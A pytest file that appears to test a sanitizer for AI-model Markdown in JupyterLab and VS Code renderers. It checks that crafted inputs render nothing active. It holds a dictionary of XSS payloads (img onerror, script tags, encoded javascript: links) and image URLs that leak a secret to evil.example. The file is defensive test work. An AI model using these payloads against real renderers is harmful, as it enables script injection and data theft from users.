"""Model Markdown is made safe structurally: rebuilt from its tokens, vetted by nh3, and checked as the frontends render it.

The frontends' renderers run in node (tests/js/render.mjs): JupyterLab 4.6 / Notebook 7.6's pipeline (math lifted
out, marked 16 with JupyterLab's plugins, math put back) and VS Code's markdown-it, each HTML string parsed by
parse5 and checked for any element, attribute or URL that Markdown does not render legitimately.
"""

import json, random, re, subprocess, sys, time
from pathlib import Path
import pytest
from hypothesis import given, settings, strategies as st
from markdown_corpus import ATOMS, CONSTRUCTS, CONTROLS, INLINE, SEPARATORS, construct, documents, layouts
from boopiter_ext.render import sanitize
from boopiter_ext.render.sanitize import SafeStream, safe_blocks, safe_markdown, vet_url

JS = Path(__file__).parent/'js'


@pytest.fixture(scope='session')
def frontends():
    "render(docs) -> one {'lab': problems, 'vscode': problems} per doc, rendered by the frontends' own libraries."
    if not (JS/'node_modules'/'marked').is_dir():
        subprocess.run(['npm', 'ci', '--no-audit', '--no-fund'], cwd=JS, check=True, capture_output=True)
    def render(docs, html=False):
        out = subprocess.run(['node', str(JS/'render.mjs'), *(['html'] if html else [])], input=json.dumps(docs),
                             capture_output=True, text=True, check=True, timeout=600)
        return json.loads(out.stdout)
    return render


def problems(results, docs, safe):
    return [dict(doc=d, safe=s, **r) for d,s,r in zip(docs, safe, results) if r['lab'] or r['vscode']]


FIXED = {
    'raw tags': 'a <script>x()</script> <img src=x onerror=y()> <svg/onload=z()>',
    'escaped backtick opens no code span': 'Note: \\`<img src=x onerror=alert(1)>`',
    'code span across a blank line': 'a ` b\n\n<img src=x onerror=alert(2)>\n\nc `',
    'fence info with a backtick': '``` x`\n<img src=x onerror=alert(3)>\n```',
    'fence in a list item, then a lazy line': '- item\n  ```\n<img src=x onerror=alert(4)>\n  ```',
    'html block': '<details><summary>s</summary>\n\n<script>x()</script>\n</details>',
    'comment': '<!-- hidden --> text',
    'reference image': '![leak][r]\n\n[r]: https://evil.example/p.png?q=SECRET',
    'image with a quoted title': "![leak](https://evil.example/p.png?q=SECRET 'x')",
    'image with escaped slashes': '![leak](https:\\/\\/evil.example/p.png?q=SECRET)',
    'image with an entity colon': '![leak](https&#58;//evil.example/p.png?q=SECRET)',
    'protocol-relative image': '![x](//evil.example/a.png)',
    'reference javascript link': '[click][j]\n\n[j]: javascript:alert(5)',
    'entity javascript link': '[click](javascript&#58;alert(6))',
    'entity scheme letter': '[click](&#x6A;avascript:alert(6))',
    'mixed-case javascript link': '[x](JaVaScRiPt:alert(1))',
    'autolink javascript': '<javascript:alert(1)>',
    'table cell': '| a | b |\n|---|---|\n| <img src=x onerror=1> | `<b>` |',
    'tag whose attribute holds backticks': '<img src="`" onerror=alert(1) x="`">',
    'code span beside a tag': '`<b>` <img src=x onerror=1> `<i>`',
    'unclosed code span': '`unclosed <img src=x onerror=1>',
    # the classes issue 12 found: a line break to Python that is none to CommonMark shifted the defuser's line map
    **{f'fence then raw html after {sep!r}': f'```\ncode{sep}```\n{sep}<img src=x onerror=alert(7)>{sep}<script>x()</script>'
       for sep in ['\x0b', '\x0c', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029']},
    'destination nested past the parser limit': '[x](' + '(' * 40 + 'javascript:alert(8)' + ')' * 40 + ')',
    'destination nested just past 32': '[x](' + '(' * 33 + 'javascript:alert(8)' + ')' * 33 + ')',
    'reference label with an escaped bracket': '[a\\]b]\n\n[a\\]b]: javascript:alert(9)',
    'reference label with an escaped backslash': '[a\\\\]\n\n[a\\\\]: javascript:alert(9)',
    # found while building this: marked's autolink swallows the backslash of `\<`, and unescapes `\[` in link text
    'autolink before an escaped tag': 'ftp://x<table background=javascript:x>',
    'short www before an escaped tag': 'www.a<img src=x onerror=alert(10)>',
    'image inside a link label': '[![x](http://evil.example/p.png)](http://example.com)',
    'escaped image in a link label': '[![x\\](http://evil.example/p.png)](http://example.com)',
    'math hiding a tag': '$$<img src=x onerror=1>$$ and $x<y$ and \\(<script>\\)',
    'math hiding a link': '$](javascript:alert(1))$',
    # found by tests/test_properties.py: marked leaves `&#x61` (no `;`, so CommonMark left it) in an href or a src,
    # and the browser decodes it there
    'reference without its semicolon': '[x](j&#x61vascript:alert(1))',
    'decimal reference without its semicolon': 'a [x](j&#97vascript:alert(1)) b',
    'remote image behind a reference without its semicolon': '![x](&#47/evil.example/p.png?q=SECRET)',
    'reference behind an escaped ampersand': '[x](javascript\\&colon;alert(1))',
    'reference behind an encoded ampersand': '[x](javascript&amp;#58;alert(1))',
}


def test_fixed_attacks_render_nothing_active_in_lab_or_vscode(frontends):
    docs = list(FIXED.values())
    safe = [safe_markdown(d) for d in docs]
    assert problems(frontends(safe), docs, safe) == []
    raw = frontends(docs)   # the same texts as a model wrote them: the checker sees what they would do
    assert sum(bool(r["lab"] or r["vscode"]) for r in raw) >= 0.6 * len(docs)


@pytest.mark.corpus
@pytest.mark.heavy   # 30 s; the fixed attacks above are the fast one of this class
def test_a_generated_corpus_renders_nothing_active(frontends):
    docs = documents(4000, seed=12)
    safe = [safe_markdown(d) for d in docs]
    assert problems(frontends(safe), docs, safe)[:3] == []
    assert sum(bool(r['lab'] or r['vscode']) for r in frontends(docs)) > 2000   # the corpus is hostile


@pytest.mark.corpus
@pytest.mark.heavy   # the fast one: test_every_streaming_update_sends_blocks_that_are_each_safe
def test_every_streaming_update_is_safe(frontends):
    rng, docs, safe = random.Random(5), documents(150, seed=99), []
    for d in docs:
        stream, cuts = SafeStream(), sorted(rng.sample(range(len(d) + 1), min(len(d) + 1, 6)))
        safe += [stream(d[:c]) for c in cuts]
    docs = [d for d in docs for _ in range(6)][:len(safe)]
    assert problems(frontends(safe), docs, safe)[:3] == []


def rendered(md_text):
    from markdown_it import MarkdownIt
    md = MarkdownIt('commonmark', {'html': True}).enable(['table', 'strikethrough'])
    md.validateLink = lambda url: True
    return md.render(md_text)


def test_ordinary_markdown_keeps_its_meaning():
    text = ('Use `a < b` and **bold**, a [link](https://example.com) and ![plot](plot.png).\n\n'
            '```html\n<b>kept exactly</b>\n```\n\n1. step\n\n   ```python\n   if a < b: pass\n   ```\n\n'
            '| col | n |\n|:--|--:|\n| x | 1 |\n\n> quoted *text*\n\n- [ ] task\n- ~~done~~\n')
    html = rendered(safe_markdown(text))
    assert '<code>a &lt; b</code>' in html and '<strong>bold</strong>' in html
    assert '<a href="https://example.com">link</a>' in html and '<img src="plot.png" alt="plot"' in html
    assert '<code class="language-html">&lt;b&gt;kept exactly&lt;/b&gt;\n</code>' in html
    assert '<code class="language-python">if a &lt; b: pass\n</code>' in html
    assert '<th style="text-align:left">col</th>' in html and '<td style="text-align:right">1</td>' in html
    assert '<blockquote>\n<p>quoted <em>text</em></p>' in html and '<s>done</s>' in html


def test_math_becomes_dollars_and_money_stays_money():
    out = safe_markdown('Area \\(\\pi r^2\\) and\n\\[\nE = mc^2\n\\]\ncosts $5, not $10; $x<y$, `\\(x\\)`\n\n'
                        '```python\nprint("\\(x\\)")\n```\n')
    assert 'Area $\\pi r^2$ and\n$$E = mc^2$$' in out and '\\$5' in out and '\\$10' in out
    assert '$x\\lt y$' in out                                    # no `<` in math: nothing can read a tag there
    assert '`\\(x\\)`' in out and 'print("\\(x\\)")' in out      # code is left as written
    for prose in [r'Press \[Enter\] to go on', r'- \[ \] todo', r'C:\\[x] and \] back', r'\\(not math\\)']:
        assert not re.search(r'(?<!\\)\$', safe_markdown(prose)), prose


def test_headings_leave_the_table_of_contents_alone():
    out = safe_markdown('# Title\n\nSetext\n======\n\n## With *emphasis*\n')
    assert out == '**Title**\n\n**Setext**\n\nWith *emphasis*'
    assert '<h' not in rendered(out)


def test_remote_images_become_links_and_bad_links_text():
    out = safe_markdown('![chart](https://evil.example/c.png?q=SECRET) [x](javascript:alert(1)) [y](vbscript:x) '
                        '[z](data:text/html,x) [ok](mailto:a@b.c)')
    html = rendered(out)
    assert '<img' not in html and '<a href="https://evil.example/c.png?q=SECRET">🖼 chart</a>' in html
    assert 'javascript' not in html and 'vbscript' not in html and 'data:' not in html
    assert '<a href="mailto:a@b.c">ok</a>' in html


@pytest.mark.parametrize('url,image,ok', [
    ('https://x.com/a?b=1&c=2', False, True), ('http://x', False, True), ('mailto:a@b.c', False, True),
    ('plot.png', True, True), ('sub/dir/p.png', True, True), ('https://x.com/p.png', True, False),
    ('//evil/p.png', True, False), ('javascript:alert(1)', False, False), (' javascript:x', False, False),
    ('java\tscript:x', False, False), ('\x01javascript:x', False, False), ('vbscript:x', False, False),
    ('data:text/html,x', False, False), ('data:image/png;base64,AAAA', True, False), ('file:///etc/passwd', False, False),
    ('https:\\\\evil', False, False)])
def test_vet_url(url, image, ok):
    assert (vet_url(url, image) is not None) == ok


def test_a_destination_a_browser_would_decode_is_read_as_decoded():
    "CommonMark decodes `&#x61;` only with its `;`; a browser reading an attribute decodes `&#x61` as well."
    assert vet_url('j&#x61vascript:alert(1)') is None and vet_url('j&#97vascript:alert(1)') is None
    assert vet_url('&#47/evil.example/p.png', image=True) is None
    assert vet_url('javascript&colon;alert(1)') is None   # from `\&colon;` or `&amp;colon;`: marked keeps the `&`
    assert vet_url('https://x.com/?a=1&copy=2') == 'https://x.com/?a=1\\&copy=2'   # a query keeps its `&`


def test_a_destination_a_parser_would_decode_is_escaped():
    assert vet_url('a&#x6A;b') == 'a\\&#x6A;b'          # the entity stays text: never `javascript:` on re-reading
    assert vet_url('p q<r>.png', True) == 'p%20q%3Cr%3E.png'


def test_when_nh3_would_remove_anything_the_block_is_plain_text(monkeypatch, caplog):
    real = sanitize._Writer.block
    def block(self, n, prev=None):
        hostile = n.type == 'paragraph' and 'anything' in n.children[0].tok.content
        return '<img src=x onerror=alert(1)>' if hostile else real(self, n, prev)
    monkeypatch.setattr(sanitize._Writer, 'block', block)
    out = safe_blocks('anything <b>at all</b>\n\n- a list\n- stays')
    assert out == ['```\nanything <b>at all</b>\n```', '- a list\n- stays'] and 'allow-list' in caplog.text


def test_a_link_nh3_refuses_costs_only_that_link(caplog):
    out = safe_markdown('see [site](http://exa\u200bmple.com) and **bold**')   # a host nh3 will not parse
    assert '**bold**' in out and 'site' in out and '](' not in out and not caplog.text


def test_stream_keeps_finished_blocks_and_rebuilds_only_the_last():
    calls = []
    real = sanitize.safe_blocks
    def counting(text, *a):
        calls.append(len(text))
        return real(text, *a)
    stream = SafeStream()
    text = ''.join(f'Paragraph {i} with <b>tags</b> and `code`.\n\n' for i in range(200))
    sanitize.safe_blocks, outs = counting, []
    try:
        for end in [*range(0, len(text), 97), len(text)]: outs.append(stream(text[:end]))
    finally: sanitize.safe_blocks = real
    assert outs[-1].count('Paragraph') == 200
    assert max(calls) < 400                           # never the whole text again: each block once, plus the tail
    assert sum(calls) < 3 * len(text)
    assert safe_markdown(text).split('\n\n')[:150] == outs[-1].split('\n\n')[:150]


HOSTILE = st.lists(st.one_of(st.sampled_from(ATOMS), st.sampled_from(SEPARATORS + CONTROLS),
                             st.text(alphabet=st.characters(codec='utf-8'), max_size=8)), max_size=25).map(''.join)


def assert_inert(out):
    "`out` passes nh3's allow-list and renders no tag, script URL or remote image that Markdown does not make."
    assert sanitize._render_check(out)
    html = rendered(out)
    assert not re.search(r'<(?!/?(p|em|strong|code|pre|a|img|ul|ol|li|blockquote|hr|br|table|thead|tbody|tr|th|td|s)\b)',
                         html), html
    assert not re.search(r'(?i)\b(href|src)="\s*(javascript|vbscript|data|file):', html)
    assert not re.search(r'<img src="(https?:)?//', html)


@pytest.mark.corpus
@pytest.mark.heavy   # the fast ones: test_properties.py's hostile Markdown
@settings(max_examples=400, deadline=None)
@given(HOSTILE)
def test_whatever_a_model_writes_passes_the_allow_list(text):
    assert_inert(safe_markdown(text))


@pytest.mark.slow
def test_every_markdown_a_kernel_sends_is_safe_streamed_reused_and_dead_drop(kernel, srv, frontends):
    import threading
    from boopiter_ext.models import deaddrop as dd
    hostile = '\n\n'.join(FIXED.values())
    def markdowns(res): return [m[2]['data']['text/markdown'] for m in res.messages
                                if m[1] in ('display_data', 'update_display_data') and 'text/markdown' in m[2]['data']]
    srv.script(hostile, delay=0.001)
    streamed = kernel.run('%%prompt -m qwen3:1.7b\nq', cell_id='c1')
    reused = kernel.run('%%prompt -m qwen3:1.7b\nq', cell_id='c1')
    assert reused.reply['metadata']['boopiter'].get('reused') and streamed.reply['data']['text/plain'] == hostile
    root = dd.deaddrop_root()
    dd.new_session(root, 'hostile')
    def respond():
        p = dd.await_prompt(root, 'hostile', timeout=30)
        dd.reply_stream(root, 'hostile', p['id'], [hostile[i:i+500] for i in range(0, len(hostile), 500)], model='x')
    threading.Thread(target=respond, daemon=True).start()
    dropped = kernel.run('%%prompt -m deaddrop/hostile\nq', cell_id='c2')
    assert dropped.status == 'ok' and dropped.reply['data']['text/plain'] == hostile
    docs = markdowns(streamed) + markdowns(reused) + markdowns(dropped)
    assert len(markdowns(streamed)) > 3 and markdowns(reused) and markdowns(dropped)
    def blocks(res): return [b for m in res.messages if m[1] in ('display_data', 'update_display_data')
                             for b in m[2]['data'].get('application/vnd.boopiter.reply+json', {}).get('blocks', [])]
    alone = blocks(streamed) + blocks(reused) + blocks(dropped)   # what the frontend renders, one block at a time
    assert len(blocks(streamed)) > 3 * len(FIXED) // 2 and blocks(reused) and blocks(dropped)
    docs += alone
    found = problems(frontends(docs), docs, docs)
    assert not found, [(f['lab'], f['vscode']) for f in found[:2]]


@pytest.mark.corpus
@pytest.mark.heavy
def test_everything_else_a_reply_shows_is_safe_too(frontends):
    "Tool rounds, the loop's summary, notes, warnings and model names set among our own Markdown: the same checks."
    from boopiter_ext.render.reply import loop_bundle, reply_markdown, round_bundle
    from boopiter_ext.models.stream import Reply
    from boopiter_ext.tools.loop import LoopResult, Step
    from boopiter_ext.faces.view import KernelView
    docs = documents(60, seed=3)
    out = []
    for i in range(0, len(docs) - 3, 3):
        steps = [Step(1, docs[i], 'ok', docs[i+1]), Step(1, docs[i+2], 'crashed: ' + docs[i+1][:20], docs[i])]
        out += [round_bundle(1, steps)[0]['text/markdown'], loop_bundle(LoopResult('max rounds', steps, 1))[0]['text/markdown']]
        r = Reply(docs[i][:40])
        r.add_thinking(docs[i+2])
        r.add_content(docs[i+1])
        r.note = docs[i+2]
        r.finish('interrupted')
        out.append(reply_markdown(r, dict(name=docs[i][:10], endpoint=docs[i+1][:30], note=docs[i+2]),
                                  dict(items=[dict(label=docs[i][:30], tokens=1, status='sent')], tokens=1, window=2,
                                       warning=docs[i+1], image_records=[])))
        shown = []
        class Pub:
            def publish(self, data, md, **kw): shown.append(data['text/markdown'])
        view = KernelView(type('Shell', (), dict(display_pub=Pub()))(), {}, dict(window=1, items=[], tokens=1))
        view.waiting(docs[i][:50], docs[i+2])
        view.final(Reply(docs[i+1][:50]))
        out += shown
    found = problems(frontends(out), out, out)
    assert not found, [(f["lab"][:-1], f["vscode"][:-1]) for f in found[:2]]


def test_a_lone_surrogate_is_shown_as_a_replacement_character():
    "A JSON `\\ud800` escape in a streamed reply made nh3 raise UnicodeEncodeError: no UTF-8 writer encodes it."
    assert safe_markdown('a\ud800b **c\udfff**') == 'a\ufffdb **c\ufffd**'
    assert SafeStream()('x\ud83d') == 'x\ufffd'


def _quadratic(opener, n):
    "n block quotes, each holding a block that takes no lazy lines and followed by a line outside: markdown-it rescans."
    return (opener + 'x\n') * n


@pytest.mark.timed
@pytest.mark.parametrize('opener', ['> >\n', *[pytest.param(o, marks=pytest.mark.heavy) for o in   # 2-5 s each
                                                 ['> # h\n', '> ```python\n', '> <div>\n', '>     code\n', '> | a |\n> |---|\n',
                                                  '>> > ~~~\n']]])
def test_a_reply_whose_layout_would_take_quadratic_time_costs_linear_time(opener):
    def cost(n):   # the best of three: a shared machine's noise only ever adds
        text = _quadratic(opener, n)
        return min(_timed(lambda: safe_markdown(text)) for _ in range(3)), text
    (small, _), (big, text) = cost(500), cost(4000)
    assert big / small < 8 * 2.5   # 8x the text; markdown-it alone would take ~64x
    out = safe_markdown(text)
    assert out.startswith('```') and text.rstrip('\n') in out   # shown, all of it, as plain text


def _timed(fn):
    t = time.perf_counter(); fn(); return time.perf_counter() - t


def test_ordinary_block_quotes_keep_their_layout():
    mail = '\n'.join(f'> line {i} of a quoted mail' if i % 7 else f'> > {i}: an older message' for i in range(1, 400))
    notes = '\n\n'.join(f'> **Note {i}.** quoted\nlazy continuation\n\n- a list\n- under it' for i in range(200))
    for text in (mail, notes, _quadratic('> # h\n', 100)):
        out = safe_markdown(text)
        assert not out.startswith('```') and out.count('>') >= text.count('\n> ') // 2


@pytest.mark.heavy
@pytest.mark.timed
def test_a_stream_of_such_a_reply_costs_the_same_per_update_however_long_it_grows():
    text, stream = _quadratic('> # h\n', 6000), SafeStream()
    steps = [_timed(lambda: stream(text[:len(text) * i // 40])) for i in range(1, 41)]
    whole = _timed(lambda: safe_markdown(_quadratic('> # h\n', 150)))   # one update's worth, laid out at once
    assert sorted(steps)[len(steps) // 2] < 40 * max(whole, 1e-3)   # median update: no growth with the reply


# ---- the blocks the frontend renders one by one (issue 21, 1)

def _same_html(a, b): return re.sub(r'\s+', ' ', a).strip() == re.sub(r'\s+', ' ', b).strip()


def _reply_blocks(text):
    "The blocks the frontend gets: `reply_data(...)['blocks']` of a finished reply."
    from boopiter_ext.models.stream import Reply
    from boopiter_ext.render.reply import reply_data
    r = Reply('m')
    r.add_content(text)
    r.finish('done')
    return reply_data(r)['blocks']


@pytest.mark.parametrize('n', [60, pytest.param(300, marks=pytest.mark.heavy)])
def test_each_block_the_frontend_renders_alone_is_safe_and_together_they_render_the_whole(frontends, n):
    docs = layouts(n, seed=21)
    per_doc = [_reply_blocks(d) for d in docs]
    blocks = [b for bs in per_doc for b in bs]
    wholes = ['\n\n'.join(bs) for bs in per_doc]
    assert len(blocks) > 3 * len(docs)   # the layouts come apart into blocks: the assertions below see each
    out = frontends(blocks + wholes + docs, html=True)   # one run of the renderers for all three
    alone, whole, raw = out[:len(blocks)], out[len(blocks):len(blocks) + len(docs)], out[len(blocks) + len(docs):]
    bad = [(b, r['lab'][:2], r['vscode'][:2]) for b, r in zip(blocks, alone) if r['lab'] or r['vscode']]
    assert bad == []
    at = 0
    for d, bs, w in zip(docs, per_doc, whole):
        parts = alone[at:at + len(bs)]
        at += len(bs)
        for key in ('lab_html', 'vscode_html'):   # marked (JupyterLab, Notebook 7) and markdown-it (VS Code)
            assert _same_html(w[key], ''.join(p[key] for p in parts)), (d, key)
    # as written: what the checker finds in them, so the corpus is hostile
    assert sum(bool(r['lab'] or r['vscode']) for r in raw) > len(docs) / 2


def test_every_streaming_update_sends_blocks_that_are_each_safe(frontends):
    rng, blocks, n = random.Random(7), [], 0
    for d in layouts(80, seed=5):
        stream = SafeStream()
        for cut in sorted(rng.sample(range(len(d) + 1), min(len(d) + 1, 5))) + [len(d)]:
            update = stream.blocks(d[:cut])
            assert stream(d[:cut]) == '\n\n'.join(update)
            blocks += update
            n += 1
    assert n >= 400 and len(blocks) > n
    found = [(b, r) for b, r in zip(blocks, frontends(blocks)) if r['lab'] or r['vscode']]
    assert found[:2] == []


def test_a_stream_says_when_its_last_block_is_a_fence_not_closed_yet():
    stream = SafeStream()
    assert stream.blocks('Intro\n\n```py\nx = 1') == ['Intro', '```py\nx = 1\n```'] and stream.open
    assert stream.blocks('Intro\n\n```py\nx = 1\n```') == ['Intro', '```py\nx = 1\n```'] and not stream.open
    stream = SafeStream()
    assert stream.blocks('~~~~\nx\n~~~\ny') == ['```\nx\n~~~\ny\n```'] and stream.open   # a shorter run closes nothing
    assert stream.blocks('~~~~\nx\n~~~\ny\n~~~~~\n\nafter') == ['```\nx\n~~~\ny\n```', 'after'] and not stream.open
    stream = SafeStream()   # a fence inside a list item is the list's: rendered, not shown as streaming code
    assert stream.blocks('- ```\n  x') == ['- ```\n  x\n  ```'] and not stream.open


def test_two_lists_in_a_row_stay_two_in_blocks_and_whole():
    blocks = safe_blocks('- a\n- b\n\n\n* c\n\n1. d\n\n3) e\n\n  - nested\n  - list\n\n  * another\n\n- after')
    assert blocks[:2] == ['- a\n- b', '+ c'] and blocks[2].startswith('1. d') and blocks[3].startswith('3) e')
    assert blocks[4:] == ['- nested\n- list', '+ another', '- after']   # after an ordered list: a bullet still
    html = rendered('\n\n'.join(blocks))
    assert html.count('<ul>') == 5 and html.count('<ol') == 2, html


# ---- never raises, linear for every construct (issue 21, 7)

def test_the_nesting_that_raised_is_shown_as_plain_text_and_never_raises():
    "The fast one of the test below: the issue's examples, nested far past the recursion limit."
    n = 2 * sys.getrecursionlimit()
    deep = '*' * 600 + 'a' + '*' * 600   # 1,201 characters raised RecursionError
    assert safe_markdown(deep) == '\\*' * 600 + 'a' + '\\*' * 600   # nested that deep: shown as plain text
    assert '**' in safe_markdown('**' * 10 + 'a' + '**' * 10)          # ordinary nesting keeps its marks
    for text in ['__' * 2000 + 'a' + '__' * 2000, '[' * n + 'a' + '](u)' * n, '*_' * 1500 + 'a' + '_*' * 1500,
                 '> ' * n + 'x', '- ' * n + 'x', '> - 1. ' * (n // 3) + 'x']:
        blocks = safe_blocks(text)
        assert blocks and all(sanitize._render_check(b) for b in blocks), text[:20]


def test_a_block_nested_past_the_limit_keeps_what_follows_it():
    "markdown-it skips to the end of the text at its nesting limit: a list that deep swallowed every block after it."
    for deep in ['1. ' * 40, '- ' * 70, '> ' * 70, '- > ' * 35]:
        text = deep + 'inner <img src=http://evil.example/x>\n\n```python\nf()\n```\n\nAfter **that**.'
        blocks = safe_blocks(text)
        assert blocks[-2:] == ['```python\nf()\n```', 'After **that**.'], (deep[:8], blocks)
        assert 'inner' in blocks[0] and all(sanitize._render_check(b) for b in blocks)
    nested = safe_blocks('- ' * 40 + 'x\n' + ' ' * 80 + 'deeper\n\nout')   # lines indented into it stay in it
    assert len(nested) == 2 and 'deeper' in nested[0] and nested[1] == 'out'


@pytest.mark.corpus
@pytest.mark.heavy   # 15 s; the fast one is above
def test_no_construct_raises_even_nested_far_past_the_recursion_limit():
    size = 6 * sys.getrecursionlimit()   # nested forms: over a thousand levels deep
    seen = 0
    for name, form in CONSTRUCTS:
        text = construct(name, form, size)
        blocks = safe_blocks(text)
        assert (blocks or name == 'reference') and all(sanitize._render_check(b) for b in blocks), (name, form)
        seen += 1
    assert seen == len(CONSTRUCTS) > 100


NESTERS = st.sampled_from([o for o, _ in INLINE.values()] + [c for _, c in INLINE.values()] + ['> ', '- ', '1. ', '\n',
                                                                                                  '\n\n', '  ', 'a'])


@pytest.mark.corpus
@pytest.mark.heavy
@settings(max_examples=40, deadline=None)
@given(st.lists(NESTERS, min_size=200, max_size=3000))
def test_any_mixture_of_openers_and_closers_is_made_safe_without_raising(parts):
    text = ''.join(parts)
    blocks = safe_blocks(text)
    assert all(sanitize._render_check(b) for b in blocks)
    assert blocks or not text.strip()


def test_a_paragraph_whose_links_would_cost_more_than_its_budget_is_kept_as_plain_text():
    text = '![' * 3000 + ' and [a link](http://a.example)'   # each `![` scans on: a millisecond a character
    t = time.perf_counter()
    out = safe_markdown(text)
    assert time.perf_counter() - t < 20
    assert out.startswith('!&#91;!&#91;') and 'a link' in out and sanitize._render_check(out)
    assert safe_markdown('[a](http://a.example) ' * 300).count('](<http://a.example>)') == 300   # ordinary links stay


def _seconds(text, runs=1):
    "Best-of-`runs` CPU seconds of making `text` safe (this process's own: other jobs on a shared machine add none)."
    best = float('inf')
    for _ in range(runs):
        t = time.process_time()
        safe_blocks(text)
        best = min(best, time.process_time() - t)
    return best


def _rate_ratio(make, runs=3):
    """The cost per character of `make(4 * n)` over that of `make(n)`: 1 is linear, 4 quadratic (the worst construct
    reads 1.5; at 8x the text, 1.55 and 42% more time). Both texts are read the same way: as one piece (8 and 32 KB),
    or, for a construct so cheap that 8 KB take under 50 ms (noise), cut into 64 KB pieces (66 and 264 KB) so the
    small one is timed above noise too."""
    piece = 1 << 16
    n = piece // 8
    if (probe := _seconds(make(n))) < 0.05: n, runs, probe = piece + 1_000, runs + 2, float('inf')
    small, big = make(n), make(4 * n)
    return (_seconds(big) / len(big)) / (min(probe, _seconds(small, runs - 1)) / len(small))


@pytest.mark.timed
def test_unclosed_math_costs_linear_time():
    "The fast one of the test below: `$a=` repeated, each opener scanning to the end (a ratio of 3.7 at these sizes)."
    small, big = construct('math $', 'unclosed', 4_000), construct('math $', 'unclosed', 32_000)
    def ratio(): return (_seconds(big, 2) / len(big)) / (_seconds(small, 3) / len(small))
    assert ratio() < 2 or ratio() < 2   # once more if it failed: others' load only ever adds


@pytest.mark.heavy   # 3-20 s each
@pytest.mark.timed
@pytest.mark.parametrize('name', list(dict.fromkeys(n for n, _ in CONSTRUCTS)))
def test_making_each_construct_safe_costs_linear_time(name):
    "Repeated, nested and unclosed: the cost per character stays the same at 4x the text (quadratic: 4x)."
    for form in ('repeated', 'nested', 'unclosed'):
        def make(n, form=form): return construct(name, form, n)
        ratio = _rate_ratio(make)
        if ratio >= 2: ratio = min(ratio, _rate_ratio(make, 5))   # once more, slower: others' load only ever adds
        assert ratio < 2, (name, form, round(ratio, 2))


def test_a_text_the_parser_itself_fails_on_is_shown_as_plain_text(caplog):
    "markdown-it-py raises IndexError on an HTML block in a list in a quote whose last line is short (found by the layouts)."
    text = '> - <!--\n>     <img src=http://evil.example/x>\n>  '
    assert safe_blocks(text) == [f'```\n{text}\n```'] and 'parser failed' in caplog.text
    stream = SafeStream()   # from then on the stream is plain text; the final update reads the whole again
    assert stream.blocks('Intro\n\n' + text) == [f'```\nIntro\n\n{text}\n```']
    assert stream.blocks('Intro\n\n' + text + '\n\nmore') == [f'```\nIntro\n\n{text}\n\nmore\n```']
    assert sanitize._render_check(text) is False   # the check never raises either: what it cannot read does not pass


def test_a_long_tight_list_is_no_quote_and_keeps_its_layout():
    "The block-quote meter counted every line it was tried on: 450 list items without a blank line became plain text."
    for text in ['\n'.join(f'- item {i}' for i in range(2000)), '\n'.join(f'{i}. step' for i in range(1, 1000)),
                 '\n'.join(f'- 1. nested {i}' for i in range(600))]:
        out = safe_markdown(text)
        assert not out.startswith('```') and out.count('\n') == text.count('\n'), text[:20]
